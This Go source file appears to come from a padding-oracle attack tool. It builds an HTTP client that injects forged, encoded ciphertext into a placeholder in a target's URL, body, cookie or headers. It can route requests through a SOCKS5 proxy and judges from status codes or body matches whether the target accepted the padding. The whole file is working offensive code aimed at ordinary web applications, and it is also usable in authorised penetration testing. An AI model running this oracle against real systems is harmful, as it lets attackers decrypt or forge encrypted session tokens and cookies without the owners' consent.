// Package httporacle turns a remote web application into a padding oracle.
// The forged ciphertext is encoded, substituted for the {payload} placeholder
// in the request, and the response is judged by its status code or body.
package httporacle

import (
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/proxy"

	"github.com/mario-areias/pythia/codec"
)

const Placeholder = "{payload}"

var (
	ErrNoPlaceholder = errors.New("request has no " + Placeholder + " placeholder")
	ErrNoCriterion   = errors.New("either a failure status or a failure match is required")
)

// Config describes the request sent for every oracle query.
type Config struct {
	URL     string
	Method  string
	Body    string
	Cookie  string
	Headers []string // "Name: value"

	Encoding string

	// A response means "bad padding" when its status is in FailStatus or its
	// body contains FailMatch.
	FailStatus []int
	FailMatch  string

	Proxy   string // socks5://host:port
	Timeout time.Duration

	// MaxConns caps idle keep-alive connections to the target. It should
	// match the worker count of the attack.
	MaxConns int
}

type Client struct {
	cfg     Config
	codec   codec.Codec
	headers [][2]string
	form    bool
	http    *http.Client
	log     *slog.Logger

	requests atomic.Int64
	failures atomic.Int64
}

func New(cfg Config, log *slog.Logger) (*Client, error) {
	if log == nil {
		log = slog.Default()
	}
	if cfg.Method == "" {
		cfg.Method = http.MethodGet
	}
	if cfg.MaxConns < 1 {
		cfg.MaxConns = 10
	}

	if _, err := url.ParseRequestURI(strings.ReplaceAll(cfg.URL, Placeholder, "x")); err != nil {
		return nil, fmt.Errorf("invalid url: %w", err)
	}
	if !strings.Contains(cfg.URL+cfg.Body+cfg.Cookie+strings.Join(cfg.Headers, "\n"), Placeholder) {
		return nil, ErrNoPlaceholder
	}
	if len(cfg.FailStatus) == 0 && cfg.FailMatch == "" {
		return nil, ErrNoCriterion
	}

	c, err := codec.Lookup(cfg.Encoding)
	if err != nil {
		return nil, err
	}

	var form bool
	headers := make([][2]string, 0, len(cfg.Headers))
	for _, h := range cfg.Headers {
		name, value, ok := strings.Cut(h, ":")
		if !ok || strings.TrimSpace(name) == "" {
			return nil, fmt.Errorf("invalid header %q, want \"Name: value\"", h)
		}
		name, value = strings.TrimSpace(name), strings.TrimSpace(value)
		if http.CanonicalHeaderKey(name) == "Content-Type" && strings.HasPrefix(value, "application/x-www-form-urlencoded") {
			form = true
		}
		headers = append(headers, [2]string{name, value})
	}

	transport, err := newTransport(cfg)
	if err != nil {
		return nil, err
	}

	return &Client{
		cfg:     cfg,
		codec:   c,
		headers: headers,
		form:    form,
		http: &http.Client{
			Transport: transport,
			Timeout:   cfg.Timeout,
			// The redirect itself is the answer, e.g. a bounce to /login.
			CheckRedirect: func(*http.Request, []*http.Request) error {
				return http.ErrUseLastResponse
			},
		},
		log: log.With("component", "httporacle"),
	}, nil
}

func newTransport(cfg Config) (*http.Transport, error) {
	transport := http.DefaultTransport.(*http.Transport).Clone()
	transport.MaxIdleConns = cfg.MaxConns
	transport.MaxIdleConnsPerHost = cfg.MaxConns

	if cfg.Proxy == "" {
		return transport, nil
	}

	u, err := url.Parse(cfg.Proxy)
	if err != nil {
		return nil, fmt.Errorf("invalid proxy: %w", err)
	}

	dialer, err := proxy.FromURL(u, &net.Dialer{Timeout: cfg.Timeout})
	if err != nil {
		return nil, fmt.Errorf("failed to create proxy dialer: %w", err)
	}

	transport.Proxy = nil
	if cd, ok := dialer.(proxy.ContextDialer); ok {
		transport.DialContext = cd.DialContext
	} else {
		transport.DialContext = func(_ context.Context, network, addr string) (net.Conn, error) {
			return dialer.Dial(network, addr)
		}
	}

	return transport, nil
}

// Oracle returns the client as a predicate usable by attack.New.
func (c *Client) Oracle() func([]byte) bool {
	return func(ciphertext []byte) bool {
		ok, err := c.Query(context.Background(), ciphertext)
		if err != nil {
			c.failures.Add(1)
			c.log.Warn("oracle request failed", "error", err)
			return false
		}
		return ok
	}
}

// Query sends one request and reports whether the target accepted the
// padding of ciphertext.
func (c *Client) Query(ctx context.Context, ciphertext []byte) (bool, error) {
	c.requests.Add(1)

	req, err := c.newRequest(ctx, c.codec.Encode(ciphertext))
	if err != nil {
		return false, err
	}

	resp, err := c.http.Do(req)
	if err != nil {
		return false, err
	}
	defer resp.Body.Close()

	if slices.Contains(c.cfg.FailStatus, resp.StatusCode) {
		c.log.Debug("padding rejected", "status", resp.StatusCode)
		return false, nil
	}

	if c.cfg.FailMatch != "" {
		body, err := io.ReadAll(resp.Body)
		if err != nil {
			return false, fmt.Errorf("read response: %w", err)
		}
		if strings.Contains(string(body), c.cfg.FailMatch) {
			c.log.Debug("padding rejected", "match", c.cfg.FailMatch)
			return false, nil
		}
	} else {
		_, _ = io.Copy(io.Discard, resp.Body)
	}

	return true, nil
}

func (c *Client) newRequest(ctx context.Context, payload string) (*http.Request, error) {
	target := strings.ReplaceAll(c.cfg.URL, Placeholder, url.QueryEscape(payload))

	var body io.Reader
	if c.cfg.Body != "" {
		p := payload
		if c.form {
			p = url.QueryEscape(payload)
		}
		body = strings.NewReader(strings.ReplaceAll(c.cfg.Body, Placeholder, p))
	}

	req, err := http.NewRequestWithContext(ctx, c.cfg.Method, target, body)
	if err != nil {
		return nil, err
	}

	for _, h := range c.headers {
		req.Header.Add(h[0], strings.ReplaceAll(h[1], Placeholder, payload))
	}
	if c.cfg.Cookie != "" {
		req.Header.Set("Cookie", strings.ReplaceAll(c.cfg.Cookie, Placeholder, payload))
	}

	return req, nil
}

// Stats returns how many requests were sent and how many failed at the
// transport level.
func (c *Client) Stats() (requests, failures int64) {
	return c.requests.Load(), c.failures.Load()
}
